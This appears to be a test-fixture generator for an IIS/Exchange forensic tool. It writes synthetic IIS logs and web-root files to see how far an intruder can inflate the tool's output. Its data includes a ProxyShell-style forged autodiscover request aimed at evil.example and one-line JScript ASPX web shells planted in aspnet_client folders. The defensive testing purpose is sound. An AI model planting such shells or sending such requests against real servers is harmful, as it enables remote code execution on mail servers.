import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'

/** Small evidence in which one thing is there `n` times: what an intruder can write to make an answer long. */
export type Shape = (n: number) => Readonly<Record<string, string>>

/**
 * The log of a site of the front end (the second is the back end). Of one file so many hits of a rule are kept and no more, so
 * that many rows are in several.
 */
const iis = (site = 1): string => `C/inetpub/logs/LogFiles/W3SVC${site === 1 ? 1 : site + 1}/u_ex210303.log`
const ROWS = 500
const HEADER = `#Software: Microsoft Internet Information Services 10.0
#Version: 1.0
#Date: 2021-03-03 00:00:00
#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken
`

type Request = {
  readonly at?: number
  readonly client?: number
  readonly stem?: string
  readonly query?: string
  readonly user?: string
  readonly agent?: string
  readonly status?: number
}

/** Public addresses, a different one for each number. */
const address = (i: number): string => `5.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}`
const timeOf = (ms: number): string => new Date(ms).toISOString().slice(0, 19).replace('T', ' ')
const BEGIN = Date.parse('2021-03-03T00:00:00Z')
/** Times of `n` requests, over less than a day. */
const within = (i: number, n: number): number => BEGIN + Math.floor((i * 80_000) / n) * 1000

function row({
  at = BEGIN,
  client = 1,
  stem = '/',
  query = '-',
  user = '-',
  agent = 'Mozilla/5.0',
  status = 200,
}: Request): string {
  return `${timeOf(at)} 10.1.2.11 POST ${stem} ${query} 443 ${user} ${address(client)} ${agent} - ${status} 0 0 41\n`
}

/** IIS logs with `n` lines. */
const lines =
  (of: (i: number, n: number) => string): Shape =>
  (n) => {
    const all = Array.from({ length: n }, (_, i) => of(i, n))
    const files = Array.from({ length: Math.ceil(n / ROWS) }, (_, i) => all.slice(i * ROWS, (i + 1) * ROWS))
    return Object.fromEntries(files.map((some, i) => [iis(i + 1), HEADER + some.join('')]))
  }
const log = (of: (i: number, n: number) => Request): Shape => lines((i, n) => row({ at: within(i, n), ...of(i, n) }))

const FORGED = {
  stem: '/autodiscover/autodiscover.json',
  query: '@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.example',
}
const DAY = 86_400_000

/** Every way to make an answer long that is tried. */
export const shapes = {
  'clients at a page each': log((i) => ({ client: i, stem: `/aspnet_client/p${i}.aspx` })),
  'clients at one page': log((i) => ({ client: i, stem: '/aspnet_client/p.aspx' })),
  'pages of one client': log((i) => ({ stem: `/aspnet_client/p${i}.aspx` })),
  'forged requests of as many clients': log((i) => ({ client: i, ...FORGED })),
  'forged requests for as many mailboxes': log((i) => ({
    ...FORGED,
    query: `${FORGED.query}&user=user${i}@contoso.example`,
    client: i % 50,
  })),
  accounts: log((i) => ({ client: i, user: `CONTOSO\\user${i}`, stem: '/aspnet_client/p.aspx' })),
  'user agents': log((i) => ({ client: i % 100, agent: `agent/${i}`, stem: '/owa/' })),
  'status values': log((i) => ({ client: i % 100, status: i })),
  // Two requests each time, so that the first of 3,000 is not before 1970: such rows are read in another way, which takes longer.
  'one client that comes back every eight days': log((i, n) => ({
    at: BEGIN - ((n - i) >> 1) * 8 * DAY,
    stem: `/aspnet_client/p${i}.aspx`,
  })),
  days: log((i, n) => ({ at: BEGIN - (n - i) * DAY, stem: '/owa/' })),
  'days with gaps': log((i, n) => ({ at: BEGIN - (n - i) * 2 * DAY, stem: '/owa/' })),
  'rows that cannot be read': lines((i, n) => `${row({ at: within(i, n), stem: '/owa/' })}broken ${i}\n`),
  'unknown files': (n) =>
    Object.fromEntries([
      [iis(), HEADER + row({ stem: '/owa/' })],
      ...Array.from({ length: n }, (_, i) => [`C/inetpub/wwwroot/f/${i % 50}/${i}.dat`, `unknown ${i}`] as const),
    ]),
  'web shells': (n) =>
    Object.fromEntries([
      [iis(), HEADER + row({ stem: '/owa/' })],
      ...Array.from(
        { length: n },
        (_, i) =>
          [
            `C/inetpub/wwwroot/aspnet_client/${i}.aspx`,
            `<%@ Page Language="Jscript"%><%eval(Request.Item["p${i}"],"unsafe");%>`,
          ] as const,
      ),
    ]),
} satisfies Readonly<Record<string, Shape>>

/** Writes the files of a shape into a folder. */
export function writeShape(folder: string, files: Readonly<Record<string, string>>): string {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), text)
  }
  return folder
}
